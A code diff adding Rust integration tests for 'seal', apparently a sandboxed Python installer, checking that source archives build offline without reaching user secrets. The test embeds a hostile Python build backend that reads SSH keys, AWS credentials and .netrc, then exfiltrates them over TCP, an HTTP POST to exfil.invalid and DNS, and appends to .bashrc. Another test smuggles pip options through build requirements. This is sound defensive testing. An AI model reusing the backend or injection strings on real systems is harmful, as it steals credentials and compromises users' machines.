@@ -5,7 +5,9 @@
 //! Every test runs as root and as uid 65534 (see `install_support`) against a PEP 503 index
 //! served by the test on 127.0.0.1, with wheels built by the test. Sinks listen on host loopback
 //! only. The one exception is `real_pypi_end_to_end`, which installs a tiny wheel from the real
-//! PyPI (skip it with SEAL_TEST_NO_PYPI=1).
+//! PyPI (skip it with SEAL_TEST_NO_PYPI=1). `uv_installer_path` serves uv's real wheel from the
+//! local index; the host's own pip downloads that wheel from PyPI once (`uv_wheel`, cached under
+//! the cargo target directory): seal itself still talks only to the local index.
 
 mod install_support;
 
@@ -1081,5 +1083,774 @@ fn real_pypi_end_to_end() {
             "{}",
             out.describe()
         );
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 9. Source archives: fetched with no code running, built with no network
+
+/// Path prefix the probe backend requests from the index whenever its module is imported
+/// (directly and through any proxy it can find): a request for it in the index's log means
+/// backend code ran while the network was reachable.
+const BACKEND_RAN: &str = "/seal-test-backend-imported/";
+
+/// An in-tree PEP 517 backend (`backend.py`) whose build_wheel is hostile. At import time it
+/// records that it ran and tries to tell the index (directly, through $HTTPS_PROXY and through
+/// 127.0.0.1:3128, the fetch step's proxy port). build_wheel then probes: the fake HOME's
+/// canary files, the canary variables, the TCP sink, the DNS stub, 127.0.0.1:3128 and a write
+/// into the project; it prints its log (errno name or "OK" per attempt) as one JSON line on
+/// stderr and writes a valid wheel carrying the same log as `<name>/probe_log.json`.
+const SDIST_BACKEND: &str = r#"
+import base64 as _b64, errno as _errno, hashlib as _hl, json as _json, os as _os
+import socket as _socket, sys as _sys, zipfile as _zip
+CFG = _json.loads(__CFG__)
+def _en(e):
+    if isinstance(e, OSError) and e.errno:
+        return _errno.errorcode.get(e.errno, "E%d" % e.errno)
+    if isinstance(e, (TimeoutError, _socket.timeout)):
+        return "TIMEOUT"
+    return "EXC:%s:%s" % (type(e).__name__, e)
+def _attempt(R, key, fn):
+    try:
+        v = fn()
+        R[key] = "OK" if v is None else v
+    except BaseException as e:
+        R[key] = _en(e)
+def _proxy_env():
+    for k in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
+        if _os.environ.get(k):
+            return _os.environ[k]
+    return None
+def _hostport(url):
+    h, _, p = url.split("://", 1)[-1].split("/", 1)[0].rpartition(":")
+    return h, int(p)
+def _tcp_send(host, port, data, reply=False):
+    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+    s.settimeout(3)
+    try:
+        s.connect((host, port))
+        s.sendall(data)
+        if reply:
+            s.recv(64)
+    finally:
+        s.close()
+def _get(host, port, target):
+    req = "GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % (target, CFG["index_port"])
+    _tcp_send(host, port, req.encode(), reply=True)
+
+# Import time: whoever imports this module runs this.
+IMPORTED = {"pid": str(_os.getpid()), "proxy_env": _proxy_env() or "unset"}
+_ran = "%s%s/%s/%d" % (CFG["backend_ran"], CFG["marker"], CFG["name"], _os.getpid())
+_abs = "http://127.0.0.1:%d%s" % (CFG["index_port"], _ran)
+_attempt(IMPORTED, "index_direct", lambda: _get("127.0.0.1", CFG["index_port"], _ran))
+if _proxy_env():
+    _attempt(IMPORTED, "index_via_proxy_env", lambda: _get(*_hostport(_proxy_env()), _abs))
+_attempt(IMPORTED, "index_via_3128", lambda: _get("127.0.0.1", 3128, _abs))
+
+def _probe():
+    R = {"import:" + k: v for k, v in IMPORTED.items()}
+    R["uid"] = str(_os.getuid())
+    R["cwd"] = _os.getcwd()
+    stolen = []
+    def rd(p):
+        with open(p, "rb") as f:
+            stolen.append(f.read(300).decode("utf-8", "replace").strip())
+    for rel in CFG["files"]:
+        _attempt(R, "read_home:" + rel, lambda rel=rel: rd(_os.path.join(_os.path.expanduser("~"), rel)))
+        _attempt(R, "read_abs:" + rel, lambda rel=rel: rd(_os.path.join(CFG["host_home"], rel)))
+    for n in CFG["env"]:
+        v = _os.environ.get(n)
+        R["env:" + n] = "present" if v else "absent"
+        if v:
+            stolen.append(v)
+    R["env:HTTPS_PROXY"] = _os.environ.get("HTTPS_PROXY") or "unset"
+    R["proxy_env"] = _proxy_env() or "unset"
+    payload = ("EXFIL %s %s" % (CFG["marker"], " ".join(stolen))).encode()
+    _attempt(R, "tcp_sink", lambda: _tcp_send("127.0.0.1", CFG["tcp_port"], payload))
+    post = (b"POST http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\n"
+            b"Content-Length: %d\r\n\r\n" % len(payload)) + payload
+    if _proxy_env():
+        _attempt(R, "proxy_via_env", lambda: _tcp_send(*_hostport(_proxy_env()), post))
+    _attempt(R, "proxy_3128", lambda: _tcp_send("127.0.0.1", 3128, post))
+    data = "".join("%02x" % b for b in " ".join(stolen).encode()[:31]) or "none"
+    q = b"\x53\x45\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in (CFG["marker"], data, "exfil", "invalid"):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\x00\x00\x10\x00\x01"
+    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+    s.settimeout(2)
+    try:
+        _attempt(R, "dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
+        if R["dns_send"] == "OK":
+            _attempt(R, "dns_recv", lambda: s.recv(512) and None)
+        else:
+            R["dns_recv"] = "not sent"
+    finally:
+        s.close()
+    def write(path, mode="w"):
+        with open(path, mode) as f:
+            f.write("\n# pwned %s\n" % CFG["marker"])
+    _attempt(R, "write_project", lambda: write(_os.path.join(CFG["project"], "PWNED-" + CFG["marker"])))
+    _attempt(R, "write_bashrc", lambda: write(_os.path.join(CFG["host_home"], ".bashrc"), "a"))
+    return R
+
+def _rec(b):
+    return "sha256=" + _b64.urlsafe_b64encode(_hl.sha256(b).digest()).rstrip(b"=").decode()
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    R = _probe()
+    log = _json.dumps(R, sort_keys=True)
+    _sys.stderr.write("SEAL-SDIST-PROBE " + log + "\n")
+    _sys.stderr.flush()
+    name, version = CFG["name"], CFG["version"]
+    di = "%s-%s.dist-info" % (name, version)
+    files = [
+        (name + "/__init__.py", ("BUILT_BY = 'seal-test probe backend %s'\n" % CFG["marker"]).encode()),
+        (name + "/probe_log.json", log.encode()),
+        (di + "/METADATA", ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name, version)).encode()),
+        (di + "/WHEEL", b"Wheel-Version: 1.0\nGenerator: seal-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
+    ]
+    record = "".join("%s,%s,%d\n" % (p, _rec(c), len(c)) for p, c in files) + di + "/RECORD,,\n"
+    files.append((di + "/RECORD", record.encode()))
+    whl = "%s-%s-py3-none-any.whl" % (name, version)
+    with _zip.ZipFile(_os.path.join(wheel_directory, whl), "w", _zip.ZIP_DEFLATED) as z:
+        for p, c in files:
+            zi = _zip.ZipInfo(p, (2020, 1, 1, 0, 0, 0))
+            zi.external_attr = 0o644 << 16
+            zi.compress_type = _zip.ZIP_DEFLATED
+            z.writestr(zi, c)
+    return whl
+"#;
+
+/// pyproject.toml of an sdist with the in-tree backend above and the given build requirements.
+fn intree_pyproject(requires: &[&str]) -> String {
+    let reqs: Vec<String> = requires
+        .iter()
+        // A JSON string is a valid TOML basic string (same escapes).
+        .map(|r| serde_json::to_string(r).unwrap())
+        .collect();
+    format!(
+        "[build-system]\nrequires = [{}]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
+        reqs.join(", ")
+    )
+}
+
+const SDIST_FILES: &[&str] = &[".ssh/id_rsa", ".aws/credentials", ".netrc", ".pypirc"];
+
+/// Publish `name` 1.0 as an sdist only: the probe backend, `requires` as build requirements.
+fn publish_probe_sdist(
+    env: &TestEnv,
+    index: &PyIndex,
+    name: &str,
+    requires: &[&str],
+    tcp: &TcpSink,
+    dns: &DnsStub,
+) -> Artifact {
+    let cfg = serde_json::json!({
+        "marker": format!("m{}", env.nonce),
+        "name": name,
+        "version": "1.0",
+        "backend_ran": BACKEND_RAN,
+        "index_port": index.port,
+        "tcp_port": tcp.port,
+        "dns_port": dns.port,
+        "project": env.project,
+        "host_home": env.home,
+        "files": SDIST_FILES,
+        "env": CANARY_ENV,
+    });
+    let backend =
+        SDIST_BACKEND.replace("__CFG__", &serde_json::to_string(&cfg.to_string()).unwrap());
+    let sdist = index.sdist_with(
+        name,
+        "1.0",
+        &[
+            ("pyproject.toml", &intree_pyproject(requires)),
+            ("backend.py", &backend),
+        ],
+    );
+    index.publish(name, &[&sdist]);
+    sdist
+}
+
+/// The probe log of the installed package `name` (read from its probe_log.json).
+fn installed_probe_log(env: &TestEnv, name: &str) -> BTreeMap<String, String> {
+    let p = site_packages(&env.env_dir())
+        .join(name)
+        .join("probe_log.json");
+    let text = fs::read_to_string(&p).unwrap_or_else(|e| {
+        panic!(
+            "no probe log in the installed package ({}): {e}",
+            p.display()
+        )
+    });
+    serde_json::from_str(&text).unwrap_or_else(|e| panic!("bad probe log {text:?}: {e}"))
+}
+
+fn expect_probe(log: &BTreeMap<String, String>, key: &str, allowed: &[&str], what: &str) {
+    let v = log
+        .get(key)
+        .unwrap_or_else(|| panic!("{what}: probe log has no {key:?}: {log:#?}"));
+    assert!(
+        allowed.contains(&v.as_str()),
+        "{what}: {key}: expected one of {allowed:?}, got {v:?}\nwhole log: {log:#?}"
+    );
+}
+
+/// The probe ran in the offline build sandbox: it saw nothing of the user and reached nothing.
+fn assert_build_contained(log: &BTreeMap<String, String>, what: &str) {
+    for rel in SDIST_FILES {
+        for k in ["read_home", "read_abs"] {
+            expect_probe(log, &format!("{k}:{rel}"), &["ENOENT", "EACCES"], what);
+        }
+    }
+    for n in CANARY_ENV {
+        expect_probe(log, &format!("env:{n}"), &["absent"], what);
+    }
+    // Built with no proxy to talk to, and nothing listening on the fetch step's proxy port.
+    expect_probe(log, "env:HTTPS_PROXY", &["unset"], what);
+    expect_probe(log, "proxy_env", &["unset"], what);
+    expect_probe(log, "import:proxy_env", &["unset"], what);
+    expect_probe(log, "proxy_3128", NET_REFUSED, what);
+    expect_probe(log, "import:index_via_3128", NET_REFUSED, what);
+    expect_probe(log, "import:index_direct", NET_REFUSED, what);
+    expect_probe(log, "tcp_sink", NET_REFUSED, what);
+    expect_probe(
+        log,
+        "dns_send",
+        &["OK", "ECONNREFUSED", "ENETUNREACH", "EPERM", "EACCES"],
+        what,
+    );
+    expect_probe(
+        log,
+        "dns_recv",
+        &["ECONNREFUSED", "ENETUNREACH", "TIMEOUT", "not sent"],
+        what,
+    );
+    expect_probe(log, "write_project", &["EROFS", "EACCES", "ENOENT"], what);
+    // The host's file is checked with assert_home_intact; inside, a write may land in the
+    // sandbox's private /tmp.
+    expect_probe(
+        log,
+        "write_bashrc",
+        &["EROFS", "EACCES", "ENOENT", "OK"],
+        what,
+    );
+}
+
+/// Everything of the project except what seal install itself writes (.seal/, seal.lock).
+fn project_user_files(project: &Path) -> BTreeMap<String, String> {
+    snapshot(project)
+        .into_iter()
+        .filter(|(k, _)| !(k == ".seal" || k.starts_with(".seal/") || k == "seal.lock"))
+        .collect()
+}
+
+fn assert_built_offline(out: &Output) {
+    assert!(
+        out.stderr
+            .lines()
+            .any(|l| l.starts_with("seal: installed ")
+                && l.ends_with("(1 built from source, offline)")),
+        "no `seal: installed ... (1 built from source, offline)` line\n{}",
+        out.describe()
+    );
+}
+
+#[test]
+fn sdist_is_fetched_without_running_and_built_offline() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "sdistbuild");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let tcp = TcpSink::start();
+        let dns = DnsStub::start();
+        let marker = format!("m{}", env.nonce);
+        let sdist = publish_probe_sdist(&env, &index, "probepkg", &[], &tcp, &dns);
+        env.write_owned(&env.project.join("main.py"), "print('hi')\n", 0o644);
+        let project_before = project_user_files(&env.project);
+
+        let out = env.install(
+            &index.url(),
+            &["--lock", "--allow-sdist", "probepkg", "probepkg"],
+        );
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert_built_offline(&out);
+        assert_eq!(
+            index.hits(&format!("/files/{}", sdist.file)),
+            1,
+            "the sdist was not downloaded exactly once:\n{}",
+            index.describe_requests()
+        );
+        // The backend was imported only where no network exists: its import-time request
+        // never reached the index.
+        assert_eq!(
+            index.hits(BACKEND_RAN),
+            0,
+            "backend code ran while the index was reachable:\n{}",
+            index.describe_requests()
+        );
+        let log = installed_probe_log(&env, "probepkg");
+        assert_build_contained(&log, "the offline build");
+        std::thread::sleep(Duration::from_millis(300));
+        assert_eq!(
+            (tcp.hits(), dns.hits()),
+            (0, 0),
+            "the build reached a sink: tcp {:?} dns {:?}",
+            tcp.received(),
+            dns.received()
+        );
+        assert_same_snapshot(
+            &project_before,
+            &project_user_files(&env.project),
+            "the project tree",
+        );
+        env.assert_home_intact();
+        let out = env.run(&[
+            "python",
+            "-c",
+            "import probepkg; print('PROBE', probepkg.BUILT_BY)",
+        ]);
+        out.expect_success();
+        assert!(
+            out.stdout
+                .contains(&format!("PROBE seal-test probe backend {marker}")),
+            "{}",
+            out.describe()
+        );
+
+        // seal.lock pins the source archive itself (not the locally built wheel).
+        let text = fs::read_to_string(env.project.join("seal.lock")).expect("seal.lock written");
+        let table: toml::Table =
+            toml::from_str(&text).unwrap_or_else(|e| panic!("seal.lock: {e}\n{text}"));
+        let entries: Vec<&toml::Value> = table["package"]
+            .as_array()
+            .unwrap_or_else(|| panic!("seal.lock has no [[package]]\n{text}"))
+            .iter()
+            .filter(|p| p.get("name").and_then(|n| n.as_str()) == Some("probepkg"))
+            .collect();
+        assert_eq!(entries.len(), 1, "seal.lock:\n{text}");
+        let s = |k: &str| {
+            entries[0]
+                .get(k)
+                .and_then(|x| x.as_str())
+                .unwrap_or_default()
+        };
+        assert_eq!(
+            (s("kind"), s("version"), s("file"), s("sha256")),
+            ("sdist", "1.0", sdist.file.as_str(), sdist.sha256.as_str()),
+            "seal.lock does not pin the served sdist:\n{text}"
+        );
+        let lock_bytes = fs::read(env.project.join("seal.lock")).unwrap();
+
+        // From the lock alone: fetched again, rebuilt offline.
+        env.seal(&["env", "remove"]).output().expect_success();
+        assert!(!env.env_dir().exists());
+        let before = index.requests().len();
+        let out = env.seal(&["install", "--python", PYTHON]).output();
+        out.expect_success();
+        env.assert_no_canary(&out);
+        assert_built_offline(&out);
+        assert!(
+            index.requests()[before..]
+                .iter()
+                .any(|r| r.path == format!("/files/{}", sdist.file)),
+            "the install from seal.lock did not fetch the sdist:\n{}",
+            index.describe_requests()
+        );
+        assert_eq!(index.hits(BACKEND_RAN), 0, "{}", index.describe_requests());
+        let log2 = installed_probe_log(&env, "probepkg");
+        assert_build_contained(&log2, "the rebuild from seal.lock");
+        assert_eq!(
+            fs::read(env.project.join("seal.lock")).unwrap(),
+            lock_bytes,
+            "seal.lock changed"
+        );
+        std::thread::sleep(Duration::from_millis(300));
+        assert_eq!(
+            (tcp.hits(), dns.hits()),
+            (0, 0),
+            "the rebuild reached a sink"
+        );
+        assert_same_snapshot(
+            &project_before,
+            &project_user_files(&env.project),
+            "the project tree",
+        );
+        env.assert_home_intact();
+
+        // Positive control: the same backend's build_wheel run by /usr/bin/python3 on the host
+        // (same user, environment and HOME) reads the canaries and reaches every sink.
+        let ctl_dir = env.dir.join("control");
+        env.mkdir_owned(&ctl_dir, 0o755);
+        let wheel_dir = ctl_dir.join("wheels");
+        env.mkdir_owned(&wheel_dir, 0o755);
+        env.host(
+            PYTHON,
+            &[
+                "-I",
+                "-S",
+                "-c",
+                "import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2])",
+                sdist.path.to_str().unwrap(),
+                ctl_dir.to_str().unwrap(),
+            ],
+        )
+        .output()
+        .expect_success();
+        let src = ctl_dir.join("probepkg-1.0");
+        let ctl = env
+            .host(
+                PYTHON,
+                &[
+                    "-I",
+                    "-c",
+                    "import sys; sys.path.insert(0, '.'); import backend; \
+                     print('BUILT', backend.build_wheel(sys.argv[1]))",
+                    wheel_dir.to_str().unwrap(),
+                ],
+            )
+            .cwd(&src)
+            .output();
+        ctl.expect_success();
+        let line = ctl
+            .stderr
+            .lines()
+            .find_map(|l| l.strip_prefix("SEAL-SDIST-PROBE "))
+            .unwrap_or_else(|| panic!("positive control: no probe log\n{}", ctl.describe()));
+        let clog: BTreeMap<String, String> = serde_json::from_str(line).unwrap();
+        for k in [
+            "read_home:.ssh/id_rsa",
+            "read_abs:.aws/credentials",
+            "tcp_sink",
+            "dns_send",
+            "dns_recv",
+            "write_project",
+            "import:index_direct",
+        ] {
+            expect_probe(&clog, k, &["OK"], "positive control");
+        }
+        expect_probe(
+            &clog,
+            "env:AWS_SECRET_ACCESS_KEY",
+            &["present"],
+            "positive control",
+        );
+        assert!(
+            wheel_dir.join("probepkg-1.0-py3-none-any.whl").is_file(),
+            "positive control: no wheel"
+        );
+        let got = |f: &dyn Fn() -> String, needle: &str| {
+            wait_until(Duration::from_secs(10), || f().contains(needle))
+        };
+        assert!(
+            got(
+                &|| tcp.received(),
+                &env.canary_env_value("AWS_SECRET_ACCESS_KEY")
+            ) && got(
+                &|| tcp.received(),
+                env.canary_file_content(".ssh/id_rsa").trim()
+            ),
+            "positive control: the TCP sink did not get the secrets: {:?}",
+            tcp.received()
+        );
+        assert!(
+            got(&|| dns.received(), &marker),
+            "positive control: the DNS stub got {:?}",
+            dns.received()
+        );
+        assert!(
+            index.hits(BACKEND_RAN) >= 1,
+            "positive control: the import-time request did not reach the index:\n{}",
+            index.describe_requests()
+        );
+        assert!(
+            env.project.join(format!("PWNED-{marker}")).exists(),
+            "positive control: the probe could not write into the project"
+        );
+    });
+}
+
+#[test]
+fn sdist_build_requirements_cannot_smuggle_options() {
+    each_variant(|v| {
+        let env = TestEnv::new(v, "smuggle");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let evil = PyIndex::start(&env.dir.join("evil"));
+        let tcp = TcpSink::start();
+        let dns = DnsStub::start();
+        // Served by the index itself (the proxy allows it): only seal's check stands between a
+        // smuggled option and a request for it.
+        let own_evil = format!("http://127.0.0.1:{}/evil/simple", index.port);
+        // A build dependency with only a source archive: if an option made pip accept sdists
+        // for build dependencies, pip would run its backend in the networked download step.
+        publish_probe_sdist(&env, &index, "helper", &[], &tcp, &dns);
+        let cases: Vec<(&str, String)> = vec![
+            (
+                "smugglea",
+                format!("--index-url=http://127.0.0.1:{}/evil", evil.port),
+            ),
+            ("smuggleb", format!("--extra-index-url={own_evil}")),
+            ("smugglec", "helper\n--no-binary=:all:".to_string()),
+            ("smuggled", "helper\r--no-binary=:all:".to_string()),
+            ("smugglee", "helper\u{2028}--no-binary=:all:".to_string()),
+        ];
+        let mut failures = Vec::new();
+        for (name, req) in &cases {
+            let sdist = publish_probe_sdist(&env, &index, name, &[req.as_str()], &tcp, &dns);
+            let what = format!("{name}: build requirement {req:?}");
+            let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+                let before = index.requests().len();
+                let out = env.install(&index.url(), &["--allow-sdist", name, name]);
+                let hits = |needle: &str| {
+                    index.requests()[before..]
+                        .iter()
+                        .filter(|r| r.path.contains(needle))
+                        .count()
+                };
+                let ctx = || {
+                    format!(
+                        "{}\nindex requests:\n{}",
+                        out.describe(),
+                        index.describe_requests()
+                    )
+                };
+                assert!(
+                    hits(&format!("/files/{}", sdist.file)) >= 1,
+                    "{what}: the sdist was never fetched (the test did not get to the check)\n{}",
+                    ctx()
+                );
+                assert_eq!(
+                    evil.connections(),
+                    0,
+                    "{what}: the second server was reached:\n{}\n{}",
+                    evil.describe_requests(),
+                    ctx()
+                );
+                assert_eq!(
+                    hits("/evil/"),
+                    0,
+                    "{what}: the smuggled index was asked\n{}",
+                    ctx()
+                );
+                assert_eq!(
+                    hits(BACKEND_RAN),
+                    0,
+                    "{what}: backend code of a build dependency ran in the networked download \
+                     step (it reached the index through the proxy)\n{}",
+                    ctx()
+                );
+                assert_eq!(
+                    hits("/files/helper-"),
+                    0,
+                    "{what}: the build dependency's sdist was downloaded\n{}",
+                    ctx()
+                );
+                out.expect_failure();
+                // The message quotes the requirement (its first line, for the split ones).
+                let quoted = req.split(['\n', '\r', '\u{2028}']).next().unwrap();
+                assert!(
+                    out.stderr.lines().any(|l| l.starts_with("seal: ")
+                        && l.contains("build requirement")
+                        && l.contains(name)
+                        && l.contains(quoted)),
+                    "{what}: no `seal: ...` line naming the refused build requirement\n{}",
+                    out.describe()
+                );
+                assert!(
+                    !env.env_dir().exists(),
+                    "{what}: an environment was created"
+                );
+                assert_no_tmp_install(&env, &what);
+            }));
+            if let Err(e) = r {
+                failures.push(
+                    e.downcast_ref::<String>()
+                        .cloned()
+                        .unwrap_or_else(|| "panic".into()),
+                );
+                let _ = fs::remove_dir_all(env.project.join(".seal"));
+            }
+        }
+        assert!(
+            failures.is_empty(),
+            "{} of {} smuggled build requirements were not refused:\n{}",
+            failures.len(),
+            cases.len(),
+            failures.join("\n=====\n")
+        );
+        assert_eq!((tcp.hits(), dns.hits()), (0, 0), "a sink was reached");
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// 10. The installers
+
+/// The benign alpha/beta set is installed and works under `seal run`.
+fn assert_benign_installed(env: &TestEnv, index: &PyIndex, alpha: &Artifact, beta: &Artifact) {
+    for a in [alpha, beta] {
+        assert!(
+            index.hits(&format!("/files/{}", a.file)) >= 1,
+            "{} not fetched:\n{}",
+            a.file,
+            index.describe_requests()
+        );
+    }
+    assert_eq!(
+        env_packages(env),
+        vec![
+            ("alpha".into(), "1.0".into()),
+            ("beta".into(), "2.0".into())
+        ]
+    );
+    let out = env.run(&[
+        "python",
+        "-c",
+        "import alpha, beta, sys; print('OUT', alpha.VERSION, beta.VERSION, sys.prefix)",
+    ]);
+    out.expect_success();
+    assert!(
+        out.stdout.contains("OUT 1.0 2.0 /seal/env"),
+        "{}",
+        out.describe()
+    );
+    let out = env.run(&["alpha-cli"]);
+    out.expect_success();
+    assert!(
+        out.stdout.contains("alpha-cli 1.0 beta 2.0"),
+        "{}",
+        out.describe()
+    );
+}
+
+fn installer_line(out: &Output) -> String {
+    let lines = out.stderr_lines("seal: installer: ");
+    assert_eq!(
+        lines.len(),
+        1,
+        "expected one `seal: installer:` line\n{}",
+        out.describe()
+    );
+    lines[0].to_string()
+}
+
+#[test]
+fn pip_installer_path() {
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "pip");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        // seal's cache holds a "uv" that is an ELF binary failing every call (/bin/false):
+        // `auto` would pick it, an explicit `--installer pip` must not.
+        let cache = env.dir.join("xdg-cache");
+        env.mkdir_owned(&cache, 0o755);
+        for d in ["seal", "seal/uv"] {
+            env.mkdir_owned(&cache.join(d), 0o755);
+        }
+        let fake_uv = cache.join("seal/uv/uv");
+        fs::copy("/bin/false", &fake_uv).expect("copying /bin/false");
+        set_mode(&fake_uv, 0o755);
+        env.chown_to_user(&fake_uv);
+        env.set_env("XDG_CACHE_HOME", cache.to_str().unwrap());
+
+        let out = env.install(&index.url(), &["--installer", "pip", "alpha"]);
+        out.expect_success();
+        assert_eq!(installer_line(&out), "seal: installer: pip");
+        assert_no_tmp_install(&env, "after a successful install");
+        assert_benign_installed(&env, &index, &alpha, &beta);
+
+        // Control: `--installer auto` takes the cached "uv", which fails; the environment
+        // installed by pip stays.
+        let out = env.install(&index.url(), &["--installer", "auto", "alpha"]);
+        assert_eq!(
+            installer_line(&out),
+            format!("seal: installer: uv ({})", fake_uv.display()),
+            "control: auto did not pick the cached uv\n{}",
+            out.describe()
+        );
+        out.expect_failure();
+        assert_no_tmp_install(&env, "after the failed install");
+        assert_benign_installed(&env, &index, &alpha, &beta);
+    });
+}
+
+#[test]
+fn uv_installer_path() {
+    let Some(wheel) = uv_wheel() else {
+        return;
+    };
+    let on_path = uv_on_host_path();
+    if let Some(p) = &on_path {
+        eprintln!(
+            "\n!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n\
+             !!! uv_installer_path: {} is on seal's PATH: seal uses it, so fetching uv\n\
+             !!! through the index is NOT tested on this machine.\n\
+             !!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\n",
+            p.display()
+        );
+    }
+    each_variant(|v| {
+        let mut env = TestEnv::new(v, "uv");
+        let index = PyIndex::start(&env.dir.join("index"));
+        let (alpha, beta) = benign(&index);
+        let uv = index.add_file(&wheel);
+        index.publish("uv", &[&uv]);
+        let cache = env.dir.join("xdg-cache");
+        env.mkdir_owned(&cache, 0o755);
+        env.set_env("XDG_CACHE_HOME", cache.to_str().unwrap());
+        let cached_uv = cache.join("seal").join("uv").join("uv");
+
+        let out = env.install(&index.url(), &["--verbose", "--installer", "uv", "alpha"]);
+        out.expect_success();
+        env.assert_no_canary(&out);
+        let line = installer_line(&out);
+        match &on_path {
+            None => {
+                assert_eq!(
+                    line,
+                    format!("seal: installer: uv ({})", cached_uv.display()),
+                    "{}",
+                    out.describe()
+                );
+                assert_eq!(
+                    index.hits(&format!("/files/{}", uv.file)),
+                    1,
+                    "uv's wheel was not fetched from the index exactly once:\n{}",
+                    index.describe_requests()
+                );
+                // Through seal's proxy (the fetch sandbox has no other way out).
+                assert!(
+                    out.stderr
+                        .lines()
+                        .any(|l| l.starts_with("seal: proxy allowed ")
+                            && l.contains(&format!("127.0.0.1:{}/files/{}", index.port, uv.file))),
+                    "no `seal: proxy allowed ... {}` line\n{}",
+                    uv.file,
+                    out.describe()
+                );
+                assert!(cached_uv.is_file(), "uv is not in seal's cache");
+            }
+            Some(p) => assert!(line.starts_with("seal: installer: uv ("), "{line} ({p:?})"),
+        }
+        assert_no_tmp_install(&env, "after a successful install");
+        assert_benign_installed(&env, &index, &alpha, &beta);
+
+        // Fetched once: the next install uses the cached binary.
+        let out = env.install(&index.url(), &["--installer", "uv", "alpha"]);
+        out.expect_success();
+        assert!(
+            installer_line(&out).starts_with("seal: installer: uv ("),
+            "{}",
+            out.describe()
+        );
+        if on_path.is_none() {
+            assert_eq!(
+                index.hits(&format!("/files/{}", uv.file)),
+                1,
+                "uv was fetched again:\n{}",
+                index.describe_requests()
+            );
+        }
+        assert_benign_installed(&env, &index, &alpha, &beta);
     });
 }
